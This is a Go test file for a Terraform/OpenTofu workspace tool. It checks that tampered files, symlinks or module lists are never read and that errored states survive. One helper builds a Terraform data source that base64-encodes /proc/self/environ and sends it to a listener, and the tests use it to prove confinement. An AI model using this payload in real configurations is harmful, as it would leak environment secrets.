@@ -1,0 +1,248 @@
+package state_test
+
+import (
+	"errors"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/numaform/numaform/state"
+)
+
+// rendered is a root with one module, and what the engine may read of it.
+func rendered(t *testing.T, backend string) (config state.Config) {
+	t.Helper()
+	return state.Config{
+		Root: t.TempDir(),
+		Files: map[string][]byte{
+			"r/h/main.tf":         []byte(backend),
+			"r/h/node-a.tf":       []byte("module \"a\" {\n  source = \"../../modules/m/1\"\n}\n"),
+			"modules/m/1/main.tf": []byte(resource("a", "1")),
+		},
+	}
+}
+
+// openRendered opens the workspace of a rendered root.
+func openRendered(t *testing.T, config state.Config) *state.Workspace {
+	t.Helper()
+	return open(t, filepath.Join(config.Root, "r", "h"), func(c *state.Config) {
+		c.Root, c.Files, c.Errored, c.BackendConfig = config.Root, config.Files, config.Errored, config.BackendConfig
+		if config.Engine != nil {
+			c.Engine = config.Engine
+		}
+	})
+}
+
+// listener counts who connects to it.
+func listener(t *testing.T) (address string, connections *atomic.Int32) {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	connections = &atomic.Int32{}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		for {
+			connection, err := l.Accept()
+			if err != nil {
+				return
+			}
+			connections.Add(1)
+			_ = connection.Close()
+		}
+	}()
+	t.Cleanup(func() {
+		_ = l.Close()
+		<-done
+	})
+	return l.Addr().String(), connections
+}
+
+// thief is what the engine evaluates at plan without any provider: it sends a secret of
+// its environment to a listener.
+func thief(address string) string {
+	return `data "terraform_remote_state" "x" {
+  backend = "http"
+  config  = { address = "http://` + address + `/${filebase64("/proc/self/environ")}" }
+}
+`
+}
+
+// TestOnlyRenderedFiles tampers with the directories of a root before a plan and between
+// a plan and its apply. Nothing of it is read; without the list of files, it is.
+func TestOnlyRenderedFiles(t *testing.T) {
+	t.Parallel()
+	const dir = "r/h/"
+	cases := map[string]struct{ file, link string }{
+		"a file more":              {file: dir + "zz.tf"},
+		"an override":              {file: dir + "node-a_override.tf"},
+		"OpenTofu's own":           {file: dir + "zz.tofu"},
+		"a changed node file":      {file: dir + "node-a.tf"},
+		"a file in the module":     {file: "modules/m/1/zz.tf"},
+		"the module":               {file: "modules/m/1/main.tf"},
+		"a link":                   {link: dir + "zz.tf"},
+		"a link in the module":     {link: "modules/m/1/zz.tf"},
+		"the module's own, linked": {link: "modules/m/1/main.tf"},
+	}
+	for name, c := range cases {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			address, connections := listener(t)
+			config := rendered(t, localBackend)
+			config.BackendConfig = map[string]string{"path": filepath.Join(t.TempDir(), "terraform.tfstate")}
+			tamper := func() {
+				outside := t.TempDir()
+				write(t, outside, "x.tf", thief(address))
+				switch {
+				case strings.HasSuffix(c.file, "_override.tf"):
+					write(t, config.Root, c.file, "module \"a\" {\n  source = \""+outside+"\"\n}\n")
+					return
+				case c.file != "":
+					write(t, config.Root, c.file, thief(address))
+					return
+				}
+				_ = os.Remove(filepath.Join(config.Root, c.link))
+				if err := os.Symlink(filepath.Join(outside, "x.tf"), filepath.Join(config.Root, c.link)); err != nil {
+					t.Fatal(err)
+				}
+			}
+			w := openRendered(t, config)
+			if err := w.Init(t.Context()); err != nil {
+				t.Fatal(err)
+			}
+			tamper()
+			plan := mustPlan(t, w, state.PlanOptions{})
+			tamper()
+			mustApply(t, w, plan)
+			for name, content := range config.Files {
+				if diff := cmp.Diff(string(content), string(mustRead(t, filepath.Join(config.Root, name)))); diff != "" {
+					t.Errorf("%s: %s", name, diff)
+				}
+			}
+			if diff := cmp.Diff([]string{"module.a.terraform_data.a"}, addresses(t, w)); diff != "" {
+				t.Errorf("state: %s", diff)
+			}
+			if connections.Load() > 0 {
+				t.Error("the listener was called")
+			}
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+
+			// The control: the same is read where the directory is the caller's own.
+			tamper()
+			config.Files = nil
+			config.Engine = &state.Engine{Path: engine(t).Path, Version: engine(t).Version} // without its own confinement
+			control := openRendered(t, config)
+			if plan, err := control.Plan(t.Context(), state.PlanOptions{}); connections.Load() == 0 {
+				t.Errorf("the control reads nothing either: %v, %v", plan, err)
+			}
+		})
+	}
+}
+
+// TestListOfModulesLeadsAstray has the engine's own list lead to another directory.
+func TestListOfModulesLeadsAstray(t *testing.T) {
+	t.Parallel()
+	address, connections := listener(t)
+	config := rendered(t, localBackend)
+	config.BackendConfig = map[string]string{"path": filepath.Join(t.TempDir(), "terraform.tfstate")}
+	w := openRendered(t, config)
+	if err := w.Init(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	evil := t.TempDir()
+	write(t, evil, "main.tf", thief(address))
+	list := filepath.Join(w.Dir(), ".terraform", "modules", "modules.json")
+	content := string(mustRead(t, list))
+	astray := strings.Replace(content, `"Dir":"../../modules/m/1"`, `"Dir":"`+evil+`"`, 1)
+	if astray == content {
+		t.Fatalf("no directory to replace in %s", content)
+	}
+	write(t, filepath.Dir(list), "modules.json", astray)
+	mustPlan(t, w, state.PlanOptions{})
+	if connections.Load() > 0 {
+		t.Error("the listener was called")
+	}
+	if got := string(mustRead(t, list)); !strings.Contains(got, `"Dir":"../../modules/m/1"`) {
+		t.Errorf("the list is %s", got)
+	}
+}
+
+// TestErroredStateIsKeptElsewhere fails to save a state: it lies where states are kept,
+// survives the loss of the directory, and is saved from there.
+func TestErroredStateIsKeptElsewhere(t *testing.T) {
+	t.Parallel()
+	for name, crash := range map[string]bool{"at once": false, "after a crash": true} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			b := newBackend(t)
+			config := rendered(t, httpBackend(b))
+			config.Errored = filepath.Join(t.TempDir(), "states", "r", "h", "errored.tfstate")
+			w := openRendered(t, config)
+			plan := mustPlan(t, w, state.PlanOptions{})
+			b.fail(true)
+			_, err := w.Apply(t.Context(), plan)
+			b.fail(false)
+			if err == nil {
+				t.Fatal("the apply ended well")
+			}
+			left := filepath.Join(w.Dir(), "errored.tfstate")
+			if _, err := os.Stat(left); !errors.Is(err, os.ErrNotExist) {
+				t.Errorf("it is still in the working directory: %v", err)
+			}
+			kept := mustRead(t, config.Errored)
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.RemoveAll(filepath.Join(config.Root, "r")); err != nil {
+				t.Fatal(err)
+			}
+			if crash {
+				// numaform died before it looked.
+				if err := os.Remove(config.Errored); err != nil {
+					t.Fatal(err)
+				}
+				write(t, w.Dir(), "errored.tfstate", string(kept))
+			}
+			again := openRendered(t, config)
+			recovery, err := again.Recover(t.Context())
+			if err != nil || !recovery.Pushed {
+				t.Fatalf("recovery is %+v, %v", recovery, err)
+			}
+			if _, err := os.Stat(config.Errored); !errors.Is(err, os.ErrNotExist) {
+				t.Errorf("it is still kept: %v", err)
+			}
+			if plan := mustPlan(t, again, state.PlanOptions{}); plan.Changes {
+				t.Errorf("the plan would make it again:\n%s", plan.Text)
+			}
+		})
+	}
+}
+
+// TestErroredStates has two that differ: neither is lost.
+func TestErroredStates(t *testing.T) {
+	t.Parallel()
+	b := newBackend(t)
+	config := rendered(t, httpBackend(b))
+	states := t.TempDir()
+	config.Errored = filepath.Join(states, "errored.tfstate")
+	write(t, states, "errored.tfstate", `{"version": 4, "serial": 1, "lineage": "a"}`)
+	write(t, filepath.Join(config.Root, "r", "h"), "errored.tfstate", `{"version": 4, "serial": 1, "lineage": "b"}`)
+	w := openRendered(t, config)
+	if _, err := w.Recover(t.Context()); err == nil || !strings.Contains(err.Error(), config.Errored+" is another one: move one of them elsewhere") {
+		t.Errorf("got %v", err)
+	}
+	for _, name := range []string{config.Errored, filepath.Join(w.Dir(), "errored.tfstate")} {
+		if _, err := os.Stat(name); err != nil {
+			t.Error(err)
+		}
+	}
+}
